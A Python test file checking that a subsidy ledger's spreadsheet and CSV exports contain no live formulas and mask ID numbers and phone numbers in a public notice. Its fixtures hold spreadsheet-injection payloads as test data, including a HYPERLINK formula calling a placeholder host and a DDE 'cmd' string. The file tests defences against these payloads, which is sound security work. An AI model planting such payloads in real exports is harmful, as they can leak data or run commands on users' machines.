"""Public and finance files: no formula in any cell, nothing identifying in the notice, evidence
in Chinese with places named (issue 12, items 9 and 10)."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.io.safe_cells import is_formula_like
from planner.ledger.exports import (
    notice_frame,
    scrub,
    write_finance_list,
    write_notice,
    write_report_book,
)
from planner.ledger.public_evidence import public_evidence
from planner.messages import msg

EMPLOYER = "91330604MA2BCDEF1X"
AGENCY = "91330604MA2BCDEF2X"
OLD_PLACE_ID = "522401199104268267"  # 522401 was not yet in force in 1991: kept on purpose
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"y")'


def lines(**changes: object) -> pd.DataFrame:
    """Finance lines as ``finance_lines`` gives them: a person, an employer and an agency."""
    rows = [
        {"claim_id": 1, "payment_id": "P1", "rule": "self_return", "payee_kind": "person",
         "payee_id": OLD_PLACE_ID, "payee_name": HYPERLINK, "amount_fen": 80_000,
         "evidence": (msg("evidence.arrival_own", day="2020-02-20", employer=EMPLOYER),
                      msg("evidence.home", home="522401", province="52",
                          region=msg("subsidy_region.other"))), "state": "approved"},
        {"claim_id": 2, "payment_id": None, "rule": "charter", "payee_kind": "employer",
         "payee_id": EMPLOYER, "payee_name": "个体户张三 13812345678", "amount_fen": 1_200_000,
         "evidence": (msg("evidence.charter_contract", contract="SY-01", invoice=1_200_000,
                          riders=40),
                      msg("evidence.charter_departed", day="2020-02-15", origin="520502",
                          seats=53)), "state": "approved"},
        {"claim_id": 3, "payment_id": None, "rule": "agency", "payee_kind": "agency",
         "payee_id": AGENCY, "payee_name": "+cmd|' /C calc'!A0",
         "evidence": (msg("evidence.placements", count=10, months=3, min=10),
                      msg("evidence.placed", id=OLD_PLACE_ID, employer=EMPLOYER,
                          first="2020-03", last="2020-09", n=7)),
         "amount_fen": 1_000_000, "state": "approved"},
    ]
    for key, value in changes.items():
        rows[0][key] = value
    return pd.DataFrame(rows)


def xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def formula_cells(path: Path) -> int:
    """How many cells of an xlsx or csv a spreadsheet would run as a formula."""
    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as f:
            return sum(is_formula_like(c) for row in csv.reader(f) for c in row)
    return sum(c.data_type == "f" or (isinstance(c.value, str) and is_formula_like(c.value)
                                      and not c.quotePrefix) for c in xlsx_cells(path))


def notice_text(path: Path) -> str:
    if path.suffix == ".csv":
        return path.read_text("utf-8-sig")
    return "\n".join(str(c.value) for c in xlsx_cells(path) if c.value is not None)


def test_no_export_holds_a_formula(tmp_path: Path) -> None:
    """Formula names (plain, masked into ``=***``, behind a tab) are text in the finance list,
    the notice (xlsx and csv) and the returns report."""
    for name in (HYPERLINK, "\t=1+1", "@SUM(1+1)"):
        frame = lines(payee_name=name)
        files = [write_finance_list(frame, tmp_path / "finance.xlsx"),
                 write_notice(frame, tmp_path / "notice.xlsx"),
                 write_notice(frame, tmp_path / "notice.csv"),
                 write_report_book({"按企业": frame[["payee_name", "amount_fen"]]},
                                   tmp_path / "returns.xlsx")]
        assert [formula_cells(p) for p in files] == [0, 0, 0, 0]
    finance = [c.value for c in xlsx_cells(tmp_path / "finance.xlsx")]
    assert "@SUM(1+1)" in finance  # the finance list shows the name as registered


def test_old_birthplace_id_and_employer_phone_never_in_notice(tmp_path: Path) -> None:
    """An ID with a birthplace code not yet in force (stdnum says invalid) in the agency's
    evidence and a mobile in an employer's name are masked in both notice formats."""
    for suffix in (".xlsx", ".csv"):
        text = notice_text(write_notice(lines(), tmp_path / f"notice{suffix}"))
        assert OLD_PLACE_ID not in text and "13812345678" not in text
        assert "5224**********8267" in text and "个体户张三 138****5678" in text
        assert not re.search(r"\d{15}", text) and not re.search(r"1[3-9]\d{9}", text)


def test_notice_evidence_is_chinese_with_places_named() -> None:
    """The evidence column has no English, no credit or area code; the coach's origin county
    is named, someone's home no finer than the masked ID shows (the prefecture)."""
    evidence = list(notice_frame(lines())["依据"])
    assert evidence[0] == ("2020-02-20 到岗 个体户张三 138****5678（自行返岗）；"
                           "户籍地 贵州省（其他地区）")
    assert "自 贵州省毕节市七星关区 发车" in evidence[1]
    assert ("介绍 5224**********8267 到 个体户张三 138****5678，参保 2020-03 至 2020-09"
            "（7 个月）") in evidence[2]
    for text in evidence:
        assert not re.search(r"[A-Za-z]{3,}", text.replace("SY-01", ""))
        assert not re.search(r"\d{6}", text.replace(",", ""))


def test_employer_named_when_notice_pays_it() -> None:
    """An employer the notice also pays is named in others' evidence (its landline masked);
    one it does not pay is called 用人单位, never shown by its code."""
    text = public_evidence([msg("evidence.arrival", day="2020-02-20", employer=EMPLOYER)],
                           "retention", {EMPLOYER: "上虞乙机械 0575-82123456"})
    assert text == "2020-02-20 到岗 上虞乙机械 0575-******56"
    assert public_evidence([msg("evidence.arrival", day="2020-02-20", employer=AGENCY)],
                           "retention", {EMPLOYER: "上虞乙机械"}) == "2020-02-20 到岗 用人单位"


def test_unknown_evidence_falls_back_to_the_rule() -> None:
    """Legacy English sentences (an older ledger, stored as strings) and a code the catalogue
    does not know are replaced by the rule, once."""
    text = public_evidence([f"legacy note {OLD_PLACE_ID}", "another 13812345678",
                            msg("evidence.of_a_newer_release", id=OLD_PLACE_ID)], "charter")
    assert text == "按包车补贴规定核定"
    legacy_text = f"legacy note {OLD_PLACE_ID};another"
    assert public_evidence(legacy_text, "agency") == "按中介介绍奖励规定核定"


def test_scrub_masks_ids_phones_and_landlines() -> None:
    """IDs whatever their checksum (also 15 digits, spaced or full-width), mobiles with +86 or
    hyphens and landlines are masked; dates and amounts are kept."""
    assert scrub("ID 522401199104268267 与 123456789012345") == (
        "ID 5224**********8267 与 1234*******2345")
    assert scrub("５２２４０１１９９１０４２６８２６７") == "5224**********8267"
    assert scrub("5224 0119 9104 2682 67") == "5224**********8267"
    assert scrub("+86 138-1234-5678，(0851)8681234") == "138****5678，(0851)*****34"
    assert scrub("2020-02-10 2020-02-15 共 1,234.00 元") == "2020-02-10 2020-02-15 共 1,234.00 元"


_DIGITS = st.text("0123456789", min_size=1, max_size=1)
_ID = st.builds(lambda body, last: body + last, st.text("0123456789", min_size=17, max_size=17),
                st.sampled_from("0123456789Xx"))
_PHONE = st.builds(lambda second, rest: "1" + second + rest, st.sampled_from("3456789"),
                   st.text("0123456789", min_size=9, max_size=9))
_FILLER = st.text(st.sampled_from("张三有限公司 ,;()at-"), max_size=6)


@settings(max_examples=150, deadline=None)
@given(id_number=_ID, phone=_PHONE, before=_FILLER, after=_FILLER)
def test_random_ids_and_phones_never_survive(id_number: str, phone: str, before: str,
                                             after: str) -> None:
    """Any 18-character ID (any checksum, any birthplace code) and any mobile embedded in a
    company name, an evidence sentence or an unknown sentence never reach the notice."""
    frame = lines()
    frame.loc[1, "payee_name"] = f"{before}{phone}{after}"
    frame.loc[2, "payee_name"] = f"{before}{id_number}{after}"
    frame.at[2, "evidence"] = (
        msg("evidence.placed", id=id_number, employer=EMPLOYER, first="2020-03", last="2020-09",
            n=7),
        msg("evidence.charter_contract", contract=f"{before}{id_number} {phone}{after}",
            invoice=1, riders=1),
        f"{before}{id_number} {phone}{after}")
    text = notice_frame(frame).to_csv(index=False)
    assert id_number not in text and id_number[:17] not in text
    assert phone not in text


_POISON = (HYPERLINK, "\t=1+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "+1+1")


@pytest.fixture(scope="module")
def poisoned_url(world, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The ledger world with every worker, employer and agency named like a formula and the
    employers' names carrying a mobile, claims computed (SQLite)."""
    from planner.io import read_scenario_tables, write_scenario, write_table
    from planner.ledger.db import dispose_engine, init_db
    from planner.services import ledger as svc
    from planner.services.auth import Role, system_actor

    root = tmp_path_factory.mktemp("poisoned")
    tables = read_scenario_tables(world.scenario_dir)
    workers, employers = tables.frames["workers"], tables.frames["employers"]
    workers["name"] = [_POISON[i % len(_POISON)] + str(i) for i in range(len(workers))]
    employers["name"] = ["=个体户" + str(i) + " 138" + f"{i:08d}" for i in range(len(employers))]
    scenario = write_scenario(tables, root / "scenario")
    events = dict(world.events)
    placements = pd.read_csv(world.events["placements"], dtype=str, keep_default_na=False,
                             encoding="utf-8-sig")
    placements["agency_name"] = "@" + placements["agency_name"]
    events["placements"] = write_table(placements, root / "placements.csv")
    url = f"sqlite:///{root / 'l.sqlite'}"
    init_db(url)
    op = system_actor(Role.OPERATOR)
    svc.import_path("scenario", scenario, op, url=url)
    svc.import_path("plan", world.plan_dir, op, url=url)
    for kind in ("charters", "charter_riders", "arrivals", "insurance", "headcount",
                 "placements"):
        svc.import_path(kind, events[kind], op, url=url)
    svc.ensure_default_policy(url)
    svc.compute_claims(op, url=url)
    yield url
    dispose_engine(url)


def test_ledger_exports_with_formula_names(poisoned_url: str, world, tmp_path: Path) -> None:
    """Through the ledger service, the finance list, the notice (xlsx, csv) and the returns
    report of a ledger full of formula names have 0 formula cells, and the notice shows 0
    unmasked ID numbers or phones."""
    from stdnum.cn import uscc

    from planner.services import ledger as svc
    from planner.services.auth import Role, system_actor

    auditor = system_actor(Role.AUDITOR)  # every claim, whatever its state
    files = [svc.export_finance_list(tmp_path / "finance.xlsx", auditor, state="all",
                                     url=poisoned_url),
             svc.export_notice(tmp_path / "notice.xlsx", auditor, state="all", url=poisoned_url),
             svc.export_notice(tmp_path / "notice.csv", auditor, state="all", url=poisoned_url),
             svc.export_returns(tmp_path / "returns.xlsx", auditor, url=poisoned_url)]
    assert [formula_cells(p) for p in files] == [0, 0, 0, 0]
    names = [c.value for c in xlsx_cells(files[0])]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in names)
    for path in files[1:3]:  # companies' credit codes are public registers: set aside
        text = re.sub(r"[0-9A-Z]{18}", lambda m: "" if uscc.is_valid(m[0]) else m[0],
                      notice_text(path))
        assert not re.search(r"\d{15}", text) and not re.search(r"1[3-9]\d{9}", text)
        assert not any(w.id_number in text for w in world.scenario.workers)
